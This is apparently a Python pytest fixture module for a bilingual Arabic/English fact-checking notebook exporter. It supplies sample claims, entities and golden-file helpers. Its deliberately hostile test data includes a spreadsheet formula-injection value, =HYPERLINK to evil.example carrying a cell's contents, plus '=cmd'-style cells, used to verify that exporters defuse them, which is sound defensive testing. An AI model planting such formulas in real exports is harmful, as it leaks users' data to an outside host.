"""The fixed inputs every exporter test uses: the sample article, its analysis, a small notebook.

Shared by tests/core/test_export_formats.py (helper-5's formats) and the w3c/claimreview/pdf
tests (helper-6), and by the golden files in tests/data/golden/. Keep it stable: changing
anything here changes every golden file (regenerate them with QARIN_UPDATE_GOLDEN=1).

Entities and links are fixed here rather than taken from the entity stage, so the golden files
do not move whenever the recognisers improve, and the tests run without loading spaCy.
Claim spans are computed from the analysis' sentence offsets, not hard-coded, so a change in
segmentation shows up as a golden diff instead of spans pointing at the wrong text.

Use the plain functions (``sample_context()``) or the pytest fixtures (``export_ctx``); import
the fixtures into a test module with ``from tests.export_fixtures import export_ctx``.
"""

from __future__ import annotations

import os
from dataclasses import replace
from functools import cache
from pathlib import Path
from types import MappingProxyType

import pytest

from qarin.core.analysis import analyse
from qarin.core.document import BilingualDocument, Lang, SourceInfo, Span
from qarin.core.export.base import ExportContext, ExportOptions
from qarin.core.io.loader import load_document
from qarin.core.model import Analysis, ClaimSuggestion, EntityLink, EntityMention
from qarin.core.notes.model import AlignmentCorrection, Claim, Evidence, Note, Notebook
from tests.conftest import SAMPLE

# A fixed clock: every timestamp and the export date the golden files were made with.
FIXED_DATE = "2026-01-15"
T0 = "2026-01-15T09:00:00.000Z"
T1 = "2026-01-15T09:30:00.000Z"
T2 = "2026-01-15T10:15:00.000Z"

RLM = "\u200f"  # RIGHT-TO-LEFT MARK: invisible, and must survive every format untouched

# Free text holding everything that breaks naive writers: quotes, newlines, an emoji outside
# the BMP, an RTL mark, Markdown and XML specials, and cells a spreadsheet would run as formulas.
TRICKY_NOTES = (
    'He said "unconfirmed" — twice.\n'
    "Second line: *not* a list, <b>not</b> HTML & [not](a link) 🇺🇦\n"
    f"{RLM}«غير مؤكدة» كما قال"
)
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


# Entities: (id, lang, surface text, occurrence, label, link). Occurrence counts from 0.
_MENTIONS: tuple[tuple[str, Lang, str, int, str, str | None], ...] = (
    ("ar-e0", "ar", "فولوديمير زيلينسكي", 0, "PERSON", "L-zelensky"),
    ("ar-e1", "ar", "موسكو", 0, "GPE", "L-moscow"),
    ("ar-e2", "ar", "زيلينسكي", 1, "PERSON", "L-zelensky"),
    ("ar-e3", "ar", "موسكو", 1, "GPE", "L-moscow"),
    ("ar-e4", "ar", "دونالد ترمب", 0, "PERSON", "L-trump"),
    ("ar-e5", "ar", "الناتو", 0, "ORG", None),
    ("en-e0", "en", "Volodymyr Zelensky", 0, "PERSON", "L-zelensky"),
    ("en-e1", "en", "Moscow", 0, "GPE", "L-moscow"),
    ("en-e2", "en", "Zelensky", 1, "PERSON", "L-zelensky"),
    ("en-e3", "en", "Moscow", 1, "GPE", "L-moscow"),
    ("en-e4", "en", "Donald Trump", 0, "PERSON", "L-trump"),
    ("en-e5", "en", "Sergey Lebedev", 0, "PERSON", None),
)
_LINKS: tuple[tuple[str, str, str, str], ...] = (
    ("L-zelensky", "PERSON", "زيلينسكي", "Zelensky"),
    ("L-moscow", "GPE", "موسكو", "Moscow"),
    ("L-trump", "PERSON", "دونالد ترمب", "Donald Trump"),
)


def _find(text: str, needle: str, occurrence: int) -> int:
    pos = -1
    for _ in range(occurrence + 1):
        pos = text.find(needle, pos + 1)
        if pos < 0:
            raise AssertionError(f"the sample no longer holds {needle!r} #{occurrence}")
    return pos


def _span_of(doc: BilingualDocument, lang: Lang, needle: str, occurrence: int = 0) -> Span:
    start = _find(doc.texts[lang], needle, occurrence)
    return Span(lang, start, start + len(needle))


@cache
def sample_document() -> BilingualDocument:
    doc = load_document(SAMPLE)
    # A repo-relative source path: golden files must not depend on where the checkout lives.
    sources = tuple(
        SourceInfo("resources/sample/security-guarantees.txt", s.encoding, s.format)
        for s in doc.sources
    )
    return replace(doc, sources=sources)


@cache
def sample_analysis() -> Analysis:
    doc = sample_document()
    base = analyse(doc, entities=False)
    mentions = tuple(
        EntityMention(mid, lang, *_offsets(doc, lang, text, occ), text, label, link)
        for mid, lang, text, occ, label, link in _MENTIONS
    )
    links = tuple(
        EntityLink(
            lid,
            label,
            {"ar": ar, "en": en},
            tuple(m.id for m in mentions if m.link == lid),
        )
        for lid, label, ar, en in _LINKS
    )
    # One suggestion the notebook already accepted (c-3), one dismissed, one still open.
    suggestions = (
        ClaimSuggestion("s-2", ("ar:2", "en:2"), "L-zelensky", True,
                        (_span_of(doc, "ar", "وأضاف"), _span_of(doc, "en", "added")), ()),
        ClaimSuggestion("s-3", ("ar:3", "en:3"), "سيرغي ليبيديف", False,
                        (_span_of(doc, "en", "confirmed"),), ()),
        ClaimSuggestion("s-4", ("ar:4", "en:4"), None, False,
                        (_span_of(doc, "en", "noted"),),
                        (_span_of(doc, "ar", "غير مؤكدة"), _span_of(doc, "en", "unconfirmed"))),
    )
    return replace(base, entities=mentions, links=links, claims=suggestions)


def _offsets(doc: BilingualDocument, lang: Lang, text: str, occurrence: int) -> tuple[int, int]:
    span = _span_of(doc, lang, text, occurrence)
    return span.start, span.end


def _sentence_span(analysis: Analysis, sid: str) -> Span:
    return analysis.sentence(sid).span


def sample_notebook() -> Notebook:
    """Three claims (both languages; Arabic-only with hostile text; English-only from a
    suggestion), two notes, two alignment corrections and a dismissed suggestion."""
    doc, analysis = sample_document(), sample_analysis()
    c1 = Claim(
        id="c-1",
        spans=(_sentence_span(analysis, "ar:0"), _sentence_span(analysis, "en:0")),
        sentences=("ar:0", "en:0"),
        claimant_link="L-zelensky",
        claimant="Volodymyr Zelensky",
        cue="أعلن / announced",
        status="confirmed",
        tags=("diplomacy", "ukraine"),
        notes="Matches the president's office statement.",
        evidence=(Evidence("url", "https://example.org/statement?id=1&lang=en", "official"),),
        created=T0,
        modified=T1,
    )
    c2 = Claim(
        id="c-2",
        spans=(_span_of(doc, "ar", "هناك معلومات غير مؤكدة تفيد باستهداف مقر معين في الضواحي"),),
        sentences=("ar:4",),
        claimant="سيرغي ليبيديف",
        cue="أشار",
        status="disputed",
        tags=("=cmd", f"{RLM}ناتو", "حلف \"الأطلسي\" 🛰"),
        notes=TRICKY_NOTES,
        evidence=(
            Evidence("quote", FORMULA, "+ a cell that must not run"),
            Evidence("quote", "-1 officers\r\nper \"report\"", "@mention\ttab"),
        ),
        created=T0,
        modified=T2,
    )
    c3 = Claim(
        id="c-3",
        spans=(_span_of(doc, "en", "The Russians must see the seriousness of the world's position"),),
        sentences=("en:2",),
        claimant_link="L-zelensky",
        claimant="Zelensky",
        cue="added",
        status="unverified",
        tags=("ukraine",),
        created=T1,
        modified=T1,
        origin="s-2",
    )
    n1 = Note(
        id="n-1",
        target="pair",
        text="The Arabic says «الولايات المتحدة»; the English adds \"senior\".",
        sentences=("ar:0", "en:0"),
        created=T1,
        modified=T1,
    )
    n2 = Note(
        id="n-2",
        target="document",
        text=f"Source: Asharq Al-Awsat, translated.\n{RLM}ترجمة غير رسمية 📰",
        created=T0,
        modified=T2,
    )
    nb = Notebook(
        doc_hash=doc.content_hash,
        title=doc.title,
        sources=tuple(s.path for s in doc.sources),
        claims=MappingProxyType({c.id: c for c in (c1, c2, c3)}),
        notes=MappingProxyType({n.id: n for n in (n1, n2)}),
        tags=("diplomacy", "ukraine", "=cmd", f"{RLM}ناتو", "حلف \"الأطلسي\" 🛰"),
        corrections=(
            AlignmentCorrection(("ar:2",), ("en:2",), confirmed=True),
            AlignmentCorrection(("ar:3", "ar:4"), ("en:3", "en:4"), confirmed=False),
        ),
        dismissed=frozenset({"s-3"}),
        reader="Test Reader",
    )
    return nb


def sample_options(**changes: object) -> ExportOptions:
    return replace(ExportOptions(date=FIXED_DATE), **changes)  # type: ignore[arg-type]


def sample_context(**option_changes: object) -> ExportContext:
    return ExportContext(
        sample_document(), sample_analysis(), sample_notebook(), sample_options(**option_changes)
    )


@pytest.fixture
def export_doc() -> BilingualDocument:
    return sample_document()


@pytest.fixture
def export_analysis() -> Analysis:
    return sample_analysis()


@pytest.fixture
def export_notebook() -> Notebook:
    return sample_notebook()


@pytest.fixture
def export_ctx() -> ExportContext:
    return sample_context()


def assert_golden(path: Path, data: bytes) -> None:
    """``data`` equals the golden file; QARIN_UPDATE_GOLDEN=1 rewrites it instead (review the
    diff before committing)."""
    if os.environ.get("QARIN_UPDATE_GOLDEN"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    assert path.exists(), f"{path} missing: run with QARIN_UPDATE_GOLDEN=1"
    assert data == path.read_bytes(), f"{path.name} changed (QARIN_UPDATE_GOLDEN=1 to accept)"
